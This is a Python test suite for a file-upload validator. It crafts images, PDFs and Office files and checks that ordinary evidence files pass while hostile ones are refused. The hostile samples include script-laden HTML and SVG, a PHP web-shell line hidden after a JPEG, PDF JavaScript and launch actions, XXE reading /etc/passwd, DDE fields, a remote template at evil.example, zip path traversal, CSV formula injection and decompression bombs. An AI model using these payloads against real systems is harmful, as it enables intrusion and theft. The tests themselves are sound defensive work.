"""What may be kept as evidence: the usual files as they are, and nothing that acts when opened."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pytest

from app.domain.errors import Invalid, TooLarge
from app.services import _content
from app.services._content import images, office
from app.services._content.archives import Limits

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def png(width=2, height=2, tail=b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        checked = kind + body
        return struct.pack(">I", len(body)) + checked + struct.pack(">I", zlib.crc32(checked))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 14)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body + tail


def jpeg(width=2, height=2, comment=b"", frame=b"\xc0") -> bytes:
    start = b"\xff\xd8\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    size = struct.pack(">HBHHB", 17, 8, height, width, 3)
    return start + b"\xff" + frame + size + b"\1\x11\0" * 3 + b"\xff\xd9"


def webp(kind=b"VP8X", body=bytes(10), tail=b"") -> bytes:
    chunk = kind + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk + tail


def heic(width=2, height=2) -> bytes:
    extent = b"\0\0\0\x14ispe\0\0\0\0" + struct.pack(">II", width, height)
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + extent


def pdf(body=b"", packed=b"") -> bytes:
    stream = zlib.compress(packed)
    objects = b"2 0 obj<</Type/ObjStm/Length %d>>stream\n%b\nendstream" % (len(stream), stream)
    return b"%PDF-1.7\n1 0 obj<<" + body + b">>endobj\n" + objects + b"\n%%EOF\n"


def ole(*streams: str) -> bytes:
    names = b"".join((name + "\0").encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names


def archive(parts: dict[str, bytes | str], method=zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return file.getvalue()


def docx(more: dict[str, bytes | str] | None = None, text="整改完成", **options) -> bytes:
    parts = {
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": f'<w:document xmlns:w="{WORD}">{text}</w:document>',
    }
    return archive(parts | (more or {}), **options)


def relation(kind: str, target: str) -> dict[str, str]:
    element = f'<Relationship Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    content = f'<Relationships xmlns="{RELATIONS}">{element}</Relationships>'
    return {"word/_rels/document.xml.rels": content}


def xlsx() -> bytes:
    file = io.BytesIO()
    openpyxl.Workbook().save(file)
    return file.getvalue()


@pytest.fixture
def examine(tmp_path):
    """Look at a file as the store does; return its media type."""

    def look(name: str, content: bytes) -> str:
        kind = _content.recognise(name, content[:65536])
        path = tmp_path / "file"
        path.write_bytes(content)
        kind.check(path)
        return kind.media_type

    return look


GOOD = {
    "照片.JPG": jpeg(),
    "照片.jpeg": jpeg(comment=b"Exif", frame=b"\xc2"),
    "截图.png": png(),
    "图.webp": webp(),
    "图2.webp": webp(b"VP8L", b"\x2f\x01\x40\0\0"),
    "图3.webp": webp(b"VP8 ", bytes(6) + b"\2\0\2\0"),
    "手机.heic": heic(),
    "报告.pdf": pdf(b"/Type/Catalog", b"1 0 <</Type/Page>>"),
    "报告.docx": docx(),
    "带链接.docx": docx(relation("hyperlink", "https://www.example.gov.cn/")),
    "台账.xlsx": xlsx(),
    "课件.pptx": archive({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}),
    "旧.doc": ole("Root Entry", "WordDocument"),
    "旧.xls": ole("Root Entry", "Workbook"),
    "旧.ppt": ole("Root Entry", "PowerPoint Document"),
    "视频.mp4": b"\0\0\0\x18ftypisom" + bytes(100),
    "视频.mov": b"\0\0\0\x14ftypqt  " + bytes(100),
    "录音.mp3": b"ID3\x04" + bytes(100),
    "录音2.mp3": b"\xff\xfb\x90\x00" + bytes(100),
    "说明.txt": "整改说明：3 < 5，退费 8946 元。\r\n".encode("gb18030"),
    "名单.csv": "姓名,金额,电话\n甲,-63.5,+86 138\n乙,-,\n".encode("utf-8-sig"),
}


@pytest.mark.parametrize("name", GOOD)
def test_the_usual_files_are_taken(examine, name):
    assert examine(name, GOOD[name])


PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HOSTILE = {
    # A page by any other name.
    "a.html": PAGE,
    "a.svg": SVG,
    "a.jpg": PAGE,
    "a.pdf": PAGE,
    "b.png": SVG,
    "a.txt": PAGE,
    "b.txt": b"\xef\xbb\xbf  " + SVG,
    "c.txt": ("x" * 65_530 + "<script >").encode(),
    "d.txt": PAGE.decode().encode("utf-16"),
    "a.xml": b"<?xml version='1.0'?><a/>",
    # Two things at once.
    "c.png": png(tail=PAGE),
    "d.png": png(tail=b"x"),
    "b.jpg": jpeg(comment=PAGE),
    "c.jpg": jpeg() + b"<?php system($_GET[0]);",
    "a.webp": webp(tail=PAGE),
    "a.mp4": b"\0\0\0\x18ftypisom" + PAGE,
    "a.gif": b"GIF89a=1;alert(1)//",
    "d.jpg": b"GIF89a" + bytes(100),
    # Programs and archives.
    "a.exe": b"MZ" + bytes(100),
    "b.docx": b"MZ" + bytes(100),
    "a.zip": archive({"a.txt": "x"}),
    "c.docx": archive({"a.txt": "x"}),
    "d.docx": archive({"a.zip": archive({"b.txt": "x"})}),
    "e.docx": docx({"../../../etc/passwd": "x"}),
    "f.docx": docx({"C:/windows/x": "x"}),
    "g.docx": xlsx(),
    "a.doc": ole("Root Entry", "WordDocument", "_VBA_PROJECT"),
    "b.doc": ole("Root Entry", "EncryptedPackage"),
    "c.doc": ole("Root Entry", "Something"),
    "a.xls": ole("Root Entry", "Workbook", "_VBA_PROJECT_CUR"),
    # What acts when it is opened.
    "b.pdf": pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "c.pdf": pdf(b"/S/J#61vaScript"),
    "d.pdf": pdf(packed=b"<</S/JavaScript>>"),
    "e.pdf": pdf(b"/A<</S/Launch/F(calc.exe)>>"),
    "h.docx": docx({"word/vbaProject.bin": "x"}),
    "i.docx": docx({"[Content_Types].xml": '<Types><Override ContentType="vbaProject"/></Types>'}),
    "t.docx": docx({"[Content_Types].xml": '<Types><Default ContentType="macroEnabled"/></Types>'}),
    "j.docx": docx(relation("attachedTemplate", "https://evil.example/x.dotm")),
    "k.docx": docx(relation("image", "file://host/share/x.png")),
    "l.docx": docx(relation("hyperlink", "javascript:alert(1)")),
    "m.docx": docx({"word/x.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    "n.docx": docx({"word/x.xml": "<?xml version='1.0'?><!DOCTYPE a><a/>".encode("utf-16")}),
    "o.docx": docx(text="<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText>"),
    "p.docx": docx(text='<w:fldSimple w:instr="DDEAUTO cmd"/>'),
    "a.csv": "姓名,备注\n甲,\"=HYPERLINK(\"\"http://evil\"\")\"\n".encode(),
    "b.csv": b"a,b\n1,+cmd|' /C calc'!A0\n",
    "c.csv": b"a,b\n1, @SUM(1)\n",
    # Broken or empty.
    "e.jpg": b"",
    "f.jpg": b"\xff\xd8\xff",
    "g.jpg": b"\xff\xd8\xff\xe0\xff\xffxx",
    "e.png": png()[:20],
    "f.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 8,
    "b.webp": webp()[:20],
    "c.webp": webp(b"VP9 "),
    "a.heic": heic()[:24],
    "f.pdf": b"%PDF-1.7\n",
    "q.docx": docx()[:-30],
    "r.docx": docx(text="<unclosed>"),
    "s.docx": docx(method=zipfile.ZIP_LZMA),
    "e.txt": b"\0\1\2\3binary",
    "noextension": b"x",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_do_harm_is_refused_in_a_sentence(examine, name):
    with pytest.raises(Invalid, match=r"。$"):
        examine(name, HOSTILE[name])


BOMBS = {
    "long.txt": b"x" * 10_000_001,
    "many.pdf": pdf(b"/ObjStm " * 10_000, b"x" * 20_000) + pdf(packed=b"x" * 9) * 10_001,
    "wide.png": png(60_000, 60_000),
    "wide.jpg": jpeg(60_000, 60_000),
    "wide.webp": webp(b"VP8X", bytes(4) + b"\xff\xff\x00\xff\xff\x00"),
    "wide2.webp": webp(b"VP8L", b"\x2f\xff\xff\xff\x0f"),
    "wide3.webp": webp(b"VP8 ", bytes(6) + b"\xff\x3f\xff\x3f"),
    "wide.heic": heic(60_000, 60_000),
    "crowd.docx": docx({f"word/{n}.bin": "" for n in range(2_001)}),
    "dense.docx": docx({"word/media/a.bin": bytes(2_000_000)}),
}


@pytest.mark.parametrize("name", BOMBS)
def test_what_unpacks_to_too_much_is_refused(examine, name):
    with pytest.raises(TooLarge, match=r"。$"):
        examine(name, BOMBS[name])


def test_all_parts_together_count():
    document = io.BytesIO(docx({f"word/{n}.bin": bytes(6_000) for n in range(2)}))

    assert office.inspect(document, Limits(unpacked=13_000))
    with pytest.raises(TooLarge):
        office.inspect(document, Limits(unpacked=10_000))


def test_forty_million_pixels_are_just_taken(examine):
    assert examine("a.png", png(8_000, 5_000))
    assert images.MOST_PIXELS == 40_000_000


def test_a_part_that_lies_about_its_size_is_refused(examine):
    """The reader of the file may believe another of its two headers than we do."""
    honest = docx({"word/a.bin": b"x" * 1_000}, method=zipfile.ZIP_STORED)
    lying = honest.replace(struct.pack("<II", 1_000, 1_000), struct.pack("<II", 10, 10))
    assert lying != honest

    with pytest.raises(Invalid):
        examine("a.docx", lying)


def test_an_encrypted_part_is_refused(examine):
    plain = docx()
    directory = plain.index(b"PK\x01\x02")
    locked = plain[: directory + 8] + b"\x01\x00" + plain[directory + 10 :]

    with pytest.raises(Invalid, match="已加密"):
        examine("a.docx", locked)


def test_a_name_that_comes_twice_is_refused(examine):
    twice = docx({"word/docu+ent.xml": "<b/>"}).replace(b"docu+ent", b"document")

    with pytest.raises(Invalid):
        examine("a.docx", twice)


def test_bytes_changed_at_random_never_break_the_reader(examine):
    """Mutated files are taken or refused; nothing else is raised."""
    import random

    chance = random.Random(7)
    for name, content in [*GOOD.items()] * 25:
        bent = bytearray(content)
        for _ in range(chance.randint(1, 8)):
            bent[chance.randrange(len(bent))] = chance.randrange(256)
        try:
            examine(name, bytes(bent[: chance.randint(1, len(bent) * 3)]))
        except (Invalid, TooLarge):
            continue
